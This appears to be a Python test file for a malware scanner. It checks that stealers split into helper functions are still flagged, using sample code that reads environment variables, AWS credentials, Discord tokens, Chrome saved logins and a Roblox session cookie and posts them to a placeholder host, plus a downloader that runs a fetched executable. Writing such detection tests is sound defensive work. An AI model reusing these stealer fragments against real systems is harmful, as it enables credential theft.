"""Round 15's recall classes: a stealer whose collecting is split into helper functions.

Written inline, ``requests.post(url, json=dict(os.environ))`` is a chain; the same stealer
with ``def grab(): return dict(os.environ)`` called from its sender was not, because what a
function returns did not reach its caller. Malware organised the way any program is (one
function collects, another sends) must score as it does written in one line. Each class has
a harmless counterpart that must stay below high. Addresses are TEST-NET or ``.invalid``;
nothing here is ever run.
"""

from __future__ import annotations

from tests.core.capabilities.variant_scan import HIGH, assert_high_with, scan, subfolder

SINK = "https://collector.example.invalid/c"


def _module(tmp_path, code: str):
    return scan({"pkg/__init__.py": "", "pkg/core.py": code}, tmp_path)


def test_a_helper_returning_the_environment_then_sent_is_exfiltration(tmp_path):
    code = (
        "import os, requests\n\n\ndef grab():\n    return dict(os.environ)\n\n\n"
        f"def report():\n    requests.post('{SINK}', json=grab())\n"
    )
    assert_high_with("env helper", _module(tmp_path, code), {"chain.exfiltration"})


def test_a_helper_returning_a_credential_file_through_a_local_name(tmp_path):
    code = (
        "import os, requests\n\n\ndef load():\n"
        "    with open(os.path.expanduser('~/.aws/credentials')) as f:\n"
        "        text = f.read()\n"
        "    return {'creds': text, 'user': os.getlogin()}\n\n\n"
        f"def sync():\n    payload = load()\n    requests.post('{SINK}', json=payload)\n"
    )
    assert_high_with("credential helper", _module(tmp_path, code), {"chain.exfiltration"})


def test_host_facts_returned_by_a_helper_and_sent_at_import_are_critical(tmp_path):
    code = (
        "import getpass, socket, requests\n\n\ndef fingerprint():\n"
        "    return {'host': socket.gethostname(), 'user': getpass.getuser()}\n\n\n"
        f"requests.post('{SINK}', json=fingerprint())\n"
    )
    result = _module(tmp_path, code)
    assert result.risk.level == "critical", [(t.id, t.severity) for t in result.threats]


def test_a_helper_shaping_what_its_caller_hands_in_is_no_source(tmp_path):
    """What a helper makes of its own parameters is its caller's argument: a telemetry
    client masking a key before it reports a failed login sends no key, whatever the
    helper's parameter is called; a helper returning the platform names no host."""
    code = (
        "import platform, requests\n\n\n"
        "def masked(private_key):\n    return private_key[:4] + '...'\n\n\n"
        "def user_agent():\n    return 'client/1.0 ' + platform.platform()\n\n\n"
        "def report_failure(key_id):\n"
        "    body = {'key': masked(key_id), 'agent': user_agent()}\n"
        f"    return requests.post('{SINK}', json=body)\n"
    )
    result = _module(subfolder(tmp_path, "client"), code)
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]


# ---------------------------------------------------------------- a store read through a path name
# A token grabber builds the folder from the environment and the store's name, lists it and
# reads each file: no literal is the whole path, so the read was only a local file's text and
# the send that followed no chain. Sent to a webhook it was caught by the address alone.
GRABBER = """import os, re, requests

ROAMING = os.getenv("APPDATA")


def tokens():
    found = []
    store = ROAMING + "\\\\discord\\\\Local Storage\\\\leveldb"
    for name in os.listdir(store):
        for line in open(os.path.join(store, name), errors="ignore"):
            found += re.findall(r"[\\w-]{24}\\.[\\w-]{6}\\.[\\w-]{27}", line)
    return found
"""


def test_tokens_read_from_a_chat_store_and_sent_are_exfiltration(tmp_path):
    code = GRABBER + f"\n\ndef report():\n    requests.post('{SINK}', json={{'t': tokens()}})\n"
    assert_high_with("token grabber", _module(tmp_path, code), {"chain.exfiltration"})


def test_browser_logins_read_from_their_database_and_sent_are_exfiltration(tmp_path):
    code = (
        "import os, sqlite3, requests\n\n\ndef logins():\n"
        "    db = os.path.join(os.environ['LOCALAPPDATA'], 'Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data')\n"
        "    rows = sqlite3.connect(db).execute('SELECT origin_url, password_value FROM logins')\n"
        "    return [list(r) for r in rows]\n\n\n"
        f"def upload():\n    requests.post('{SINK}', json={{'rows': logins()}})\n"
    )
    assert_high_with("login stealer", _module(tmp_path, code), {"chain.exfiltration"})


def test_a_browser_helper_reading_local_state_and_fetching_a_driver_sends_nothing(tmp_path):
    """A browser-automation helper reads the browser's Local State for its version and
    downloads the matching driver: it reads a store and uses the network, but nothing it
    read is sent."""
    code = (
        "import json, os, requests\n\n\ndef browser_version():\n"
        "    state = os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Local State')\n"
        "    with open(state) as f:\n        return json.load(f)['browser']['last_version']\n\n\n"
        "def driver_archive():\n"
        f"    return requests.get('{SINK}/driver.zip', timeout=30).content\n"
    )
    result = _module(subfolder(tmp_path, "helper"), code)
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]


# ---------------------------------------------------------------- a download behind a helper
# An updater's fetch() writes the response straight into a file and returns the path; the
# command the user runs starts what fetch() returned. Written inline in one function, or
# split in two, the download is run.
FETCH = """import os, subprocess, tempfile, requests


def fetch(url):
    path = os.path.join(tempfile.gettempdir(), "upd.exe")
    with open(path, "wb") as f:
        f.write(requests.get(url).content)
    return path
"""


def test_a_download_written_inline_then_started_is_download_execute(tmp_path):
    code = (
        "import os, subprocess, tempfile, requests\n\n\ndef update():\n"
        "    path = os.path.join(tempfile.gettempdir(), 'upd.exe')\n"
        "    with open(path, 'wb') as f:\n"
        f"        f.write(requests.get('{SINK}/u.exe').content)\n"
        "    subprocess.Popen([path])\n"
    )
    assert_high_with("inline dropper", _module(tmp_path, code), {"chain.download_execute"})


def test_the_path_a_helper_downloaded_to_then_started_is_download_execute(tmp_path):
    code = FETCH + f"\n\ndef update():\n    subprocess.Popen([fetch('{SINK}/u.exe')])\n"
    assert_high_with("helper dropper", _module(tmp_path, code), {"chain.download_execute"})


def test_a_helper_saving_a_download_that_nothing_starts_is_no_chain(tmp_path):
    """A data helper saving a file and a caller that only reads it back."""
    code = FETCH.replace("upd.exe", "table.csv") + (
        f"\n\ndef table():\n    with open(fetch('{SINK}/t.csv')) as f:\n        return f.read()\n"
    )
    result = _module(subfolder(tmp_path, "data"), code)
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]


# ---------------------------------------------------------------- a method's return
def test_a_method_returning_the_environment_sent_by_another_method_is_exfiltration(tmp_path):
    code = (
        "import os, requests\n\n\nclass Reporter:\n"
        "    def collect(self):\n        return dict(os.environ)\n\n"
        f"    def send(self):\n        requests.post('{SINK}', json=self.collect())\n"
    )
    assert_high_with("method", _module(tmp_path, code), {"chain.exfiltration"})


# ---------------------------------------------------------------- a session cookie in the registry
# A Roblox cookie grabber walks the values of Roblox Studio's registry key for .ROBLOSECURITY
# and returns it; its caller posts it. With a Discord webhook it was caught by the address;
# with a fresh domain it was a registry read and a request.
ROBLOX = """from winreg import HKEY_CURRENT_USER, EnumValue, OpenKey


def cookie():
    key = OpenKey(HKEY_CURRENT_USER, r"SOFTWARE\\\\Roblox\\\\RobloxStudioBrowser\\\\roblox.com")
    count = 0
    while True:
        name, value, kind = EnumValue(key, count)
        if name == ".ROBLOSECURITY":
            return value
        count += 1
"""


def test_a_session_cookie_read_from_the_registry_and_posted_is_exfiltration(tmp_path):
    code = ROBLOX + (
        f"\n\ndef grab():\n    import requests\n"
        f"    requests.post('{SINK}', json={{'content': str(cookie())}})\n"
    )
    assert_high_with("roblox cookie", _module(tmp_path, code), {"chain.exfiltration"})


def test_a_studio_helper_reading_the_key_and_sending_nothing_stays_below_high(tmp_path):
    code = ROBLOX + "\n\ndef logged_in():\n    return cookie() is not None\n"
    result = _module(subfolder(tmp_path, "studio"), code)
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]


# ---------------------------------------------------------------- a client naming itself
# edx-rest-api-client builds its User-Agent once, on import, from an environment variable with
# the host name as fallback, in a helper; every request carries it. A client names itself in
# that header (pip and every SDK put the platform there); one variable is not the environment.
USER_AGENT = """import os, socket, requests


def user_agent():
    name = os.environ.get("CLIENT_NAME") or socket.gethostbyname(socket.gethostname())
    return "python-requests client/1.0 " + name


USER_AGENT = user_agent()


def token(url, client_id, client_secret):
    data = {"grant_type": "client_credentials", "client_id": client_id}
    return requests.post(url, data=data, headers={"User-Agent": USER_AGENT}, timeout=10)
"""


def test_a_user_agent_naming_the_host_from_a_helper_is_no_exfiltration(tmp_path):
    result = _module(subfolder(tmp_path, "client"), USER_AGENT)
    assert result.risk.level not in HIGH, [(t.id, t.severity) for t in result.threats]


def test_the_same_helper_posted_as_the_body_on_import_is_still_caught(tmp_path):
    code = USER_AGENT + f"\n\nrequests.post('{SINK}', json={{'id': user_agent()}})\n"
    result = _module(subfolder(tmp_path, "beacon"), code)
    assert result.risk.level in HIGH, [(t.id, t.severity) for t in result.threats]
